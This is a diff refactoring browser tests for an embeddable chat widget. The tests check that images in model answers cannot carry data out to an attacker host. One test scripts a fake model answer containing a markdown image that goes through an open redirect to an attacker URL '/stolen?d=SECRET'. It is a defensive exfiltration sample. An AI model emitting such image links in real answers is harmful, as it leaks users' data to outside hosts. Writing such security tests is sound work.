@@ -1,7 +1,7 @@
-import type { Browser, Page } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { ensureBundle, launchChromium, scriptTagChunkPaths, strictCsp } from './support/chromium.js';
-import { faults, startFaultGateway, type FaultGateway } from './support/fault-gateway.js';
+import type { Page } from 'playwright-core';
+import { afterAll, describe, expect, it } from 'vitest';
+import { scriptTagChunkPaths, strictCsp } from './support/chromium.js';
+import { faults, useFaultGateway } from './support/fault-gateway.js';
 import { startImageHost, type ImageHost } from './support/image-host.js';
 import { openPage } from './support/open-page.js';
 
@@ -9,8 +9,6 @@ import { openPage } from './support/open-page.js';
  * Issue 8, exfiltration (SECURITY-NOTES §2): a rendered image URL carries data out. By default
  * model output causes zero requests; with `image-hosts`, only those hosts load.
  */
-let gateway: FaultGateway;
-let browser: Browser;
 let allowed: ImageHost;
 let attacker: ImageHost;
 
@@ -32,9 +30,7 @@ function exfiltratingAnswer(): string[] {
   ];
 }
 
-beforeAll(async () => {
-  ensureBundle();
-  gateway = await startFaultGateway();
+const site = useFaultGateway(async (gateway) => {
   allowed = await startImageHost('127.0.0.1');
   attacker = await startImageHost('localhost');
   gateway.page('/', { body: '<parley-chat endpoint="/api/chat" protocol="parley" persist="none"></parley-chat>' });
@@ -44,13 +40,8 @@ beforeAll(async () => {
     body: `<parley-chat endpoint="/api/chat" protocol="parley" persist="none" image-hosts="${allowed.host}"></parley-chat>`,
     csp: `${strictCsp.replace("img-src 'self'", `img-src 'self' ${allowed.origin}`)}`,
   });
-  browser = await launchChromium();
-}, 120_000);
-
-afterAll(async () => {
-  await browser?.close();
-  await Promise.all([gateway?.close(), allowed?.close(), attacker?.close()]);
 });
+afterAll(() => Promise.all([allowed?.close(), attacker?.close()]));
 
 /**
  * Sends one question and waits for the whole exfiltrating answer; returns every request the page
@@ -59,11 +50,11 @@ afterAll(async () => {
  */
 async function askForExfiltration(page: Page): Promise<string[]> {
   const requests: string[] = [];
-  const ownChunks = new Set(scriptTagChunkPaths().map((path) => `${gateway.origin}${path}`));
+  const ownChunks = new Set(scriptTagChunkPaths().map((path) => `${site.gateway.origin}${path}`));
   page.on('request', (request) => {
     if (!ownChunks.has(request.url())) requests.push(request.url());
   });
-  gateway.script('', faults.answer(...exfiltratingAnswer()));
+  site.gateway.script('', faults.answer(...exfiltratingAnswer()));
   const input = page.locator('parley-chat [part~="input"]');
   await input.fill('What is my balance?');
   await input.press('Enter');
@@ -74,30 +65,30 @@ async function askForExfiltration(page: Page): Promise<string[]> {
 
 describe('images and styles in model output', { timeout: 30_000 }, () => {
   it('cause zero requests by default, and show an inert placeholder naming the host', async () => {
-    const { page, errors } = await openPage(browser, `${gateway.origin}/`);
+    const { page, errors } = await openPage(site.browser, `${site.gateway.origin}/`);
     const requests = await askForExfiltration(page);
     // Wait on something observable: the answer's placeholders are on screen and no <img> exists at all.
     const answer = page.locator('parley-chat [part~="message"][part~="assistant"]');
     expect(await answer.locator('img').count()).toBe(0);
     expect(await answer.textContent()).toContain(`Image blocked from ${attacker.host}`);
     expect(await answer.textContent()).toContain(`Image blocked from ${allowed.host}`);
-    expect(requests).toEqual([`${gateway.origin}/api/chat`]);
+    expect(requests).toEqual([`${site.gateway.origin}/api/chat`]);
     expect(attacker.hits).toEqual([]);
     expect(allowed.hits).toEqual([]);
-    expect(gateway.requests.filter((request) => request.url.includes('same-origin'))).toEqual([]);
+    expect(site.gateway.requests.filter((request) => request.url.includes('same-origin'))).toEqual([]);
     expect(errors).toEqual([]);
     await page.context().close();
   });
 
   it('load only from the hosts in image-hosts', async () => {
-    const { page, errors } = await openPage(browser, `${gateway.origin}/allowed`);
+    const { page, errors } = await openPage(site.browser, `${site.gateway.origin}/allowed`);
     const requests = await askForExfiltration(page);
     const answer = page.locator('parley-chat [part~="message"][part~="assistant"]');
     const logo = answer.locator(`img[src="${allowed.origin}/logo.png"]`);
     await expect.poll(() => logo.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(1);
     expect(allowed.hits.map((hit) => hit.url)).toEqual(['/logo.png']);
     expect(await answer.locator('img').count()).toBe(1);
-    expect(requests).toEqual([`${gateway.origin}/api/chat`, `${allowed.origin}/logo.png`]);
+    expect(requests).toEqual([`${site.gateway.origin}/api/chat`, `${allowed.origin}/logo.png`]);
     expect(attacker.hits).toEqual([]);
     // No referrer leaks the page (an ERP URL with record ids) to the image host.
     expect(allowed.hits[0]?.headers.referer).toBeUndefined();
@@ -106,9 +97,9 @@ describe('images and styles in model output', { timeout: 30_000 }, () => {
   });
 
   it("an open redirect on an allowed host is stopped by the page's img-src naming the same hosts (the widget cannot see redirects)", async () => {
-    const { page, errors, violations } = await openPage(browser, `${gateway.origin}/allowed-csp`);
+    const { page, errors, violations } = await openPage(site.browser, `${site.gateway.origin}/allowed-csp`);
     const allowedBefore = allowed.hits.length;
-    gateway.script('', faults.answer(`![chart](${allowed.origin}/redirect?to=${encodeURIComponent(`${attacker.origin}/stolen?d=SECRET`)}) End of answer.`));
+    site.gateway.script('', faults.answer(`![chart](${allowed.origin}/redirect?to=${encodeURIComponent(`${attacker.origin}/stolen?d=SECRET`)}) End of answer.`));
     await page.locator('parley-chat [part~="input"]').fill('Chart?');
     await page.locator('parley-chat [part~="input"]').press('Enter');
     await page.locator('parley-chat [part~="message"][part~="assistant"]').getByText('End of answer.').waitFor();
